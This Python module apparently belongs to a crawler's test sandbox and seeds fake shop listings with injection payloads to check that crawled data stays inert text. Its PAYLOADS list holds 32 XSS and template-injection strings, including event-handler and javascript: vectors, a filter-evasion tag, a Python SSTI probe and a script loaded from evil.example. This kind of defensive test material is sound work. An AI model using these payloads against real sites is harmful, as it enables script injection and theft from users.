"""Hostile listings: sellers whose titles, shop names and specifications carry injection payloads.

With ``SandboxConfig.hostile`` on, a deterministic share of listings (``hostile_share``) append a payload
to the title, sell from a shop named with another and list a third as a specification value (and one as
a specification name). Platforms encode them as real sites do (escaped in HTML, JSON-escaped in JSON), so
a crawl stores the payload as text and every page showing it must keep it text.

Every payload is ASCII, so GBK pages carry it unchanged. Payload ``n`` of a category's search slot ``k``
is ``PAYLOADS[(k + offset) % len(PAYLOADS)]``: one search page shows most of the corpus.
"""

from __future__ import annotations

from dataclasses import dataclass

from crawler.sandbox.hashing import unit

PAYLOADS: list[str] = [
    "<script>__xss(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=__xss(3)>",
    '"><img src=x onerror=__xss(4)>',
    "'><svg onload=__xss(5)>",
    "<svg><script>__xss(6)</script></svg>",
    "<svg/onload=__xss(7)>",
    "<body onload=__xss(8)>",
    '<iframe src="javascript:__xss(9)"></iframe>',
    "javascript:__xss(10)",
    "JaVaScRiPt:alert(11)",
    " javascript:__xss(12)",
    '" onmouseover="__xss(13)" x="',
    "' onfocus='__xss(14)' autofocus='",
    '<a href="javascript:__xss(15)">click</a>',
    "<details open ontoggle=__xss(16)>",
    "<input autofocus onfocus=__xss(17)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss(18)>",
    "</textarea><script>__xss(19)</script>",
    "</title><script>__xss(20)</script>",
    "<style>@import 'javascript:__xss(21)';</style>",
    '<object data="javascript:__xss(22)"></object>',
    '<embed src="javascript:__xss(23)">',
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}<%= 7*7 %>",
    "<scr<script>ipt>__xss(27)</scr</script>ipt>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygyOCk8L3NjcmlwdD4=",
    '<video><source onerror="__xss(29)"></video>',
    '<div style="background:url(javascript:__xss(30))">x</div>',
    "&lt;script&gt;__xss(31)&lt;/script&gt;",
    "<marquee onstart=__xss(32)>",
]
"""Classic injection payloads. Each one, if it ever ran, would call ``__xss(n)`` or open a dialog."""

SHOP_ID_BASE = 20_000_000
"""Hostile shops get ids above every generated shop id; one shop per payload."""
SPEC_NAME_ZH = "颜色"
SPEC_NAME_EN = "Color"


@dataclass(frozen=True)
class Payloads:
    title: str
    shop: str
    spec: str
    spec_name: str
    shop_number: int


def payload(n: int) -> str:
    return PAYLOADS[n % len(PAYLOADS)]


def chosen(seed: int, platform: str, index: int, share: float) -> bool:
    return unit(seed, platform, index, "hostile") < share


def payloads_for(slot: int) -> Payloads:
    """The payloads of the listing in a category's search slot ``slot``."""
    shop_number = (slot + 11) % len(PAYLOADS)
    return Payloads(
        title=payload(slot),
        shop=payload(shop_number),
        spec=payload(slot + 22),
        spec_name=payload(slot + 5),
        shop_number=shop_number,
    )


def title(original: str, payloads: Payloads) -> str:
    return f"{original} {payloads.title}"


def shop(payloads: Payloads, english: bool) -> tuple[str, str]:
    name = f"{payloads.shop} Store" if english else f"{payloads.shop}专营店"
    return str(SHOP_ID_BASE + payloads.shop_number), name


def specs(
    original: tuple[tuple[str, str], ...], payloads: Payloads, english: bool
) -> tuple[tuple[str, str], ...]:
    return (
        *original,
        (SPEC_NAME_EN if english else SPEC_NAME_ZH, payloads.spec),
        (payloads.spec_name, payloads.spec),
    )
